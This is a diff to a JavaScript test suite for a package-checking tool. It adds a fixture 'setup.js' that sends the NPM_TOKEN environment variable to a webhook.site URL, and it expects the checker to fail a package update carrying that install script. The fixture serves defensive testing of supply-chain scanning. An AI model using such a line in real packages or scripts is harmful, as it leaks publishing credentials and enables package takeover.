@@ -175,7 +175,9 @@ describe('checkPackage against a local registry', () => {
             files: {
               'package.json': JSON.stringify({ name: 'hooked', version: '2.0.1', scripts }),
               'index.js': 'module.exports = 1\n',
-              'setup.js': 'void 0\n'
+              // defanged: the shape of a credential-stealing install script, never run
+              'setup.js':
+                "fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })\n"
             },
             manifest: { scripts }
           }
@@ -206,7 +208,7 @@ describe('checkPackage against a local registry', () => {
     expect(registry.requests).toContain('/honest/-/honest-1.0.0.tgz')
   })
 
-  it('fails an update that adds an install script running a file it adds', async () => {
+  it('fails an update that adds an install script running a new file that sends a token out', async () => {
     const result = await checkPackage('hooked', env)
     expect(result.verdict).toBe('fail')
     expect(result.findings.map((finding) => finding.ruleId)).toContain(
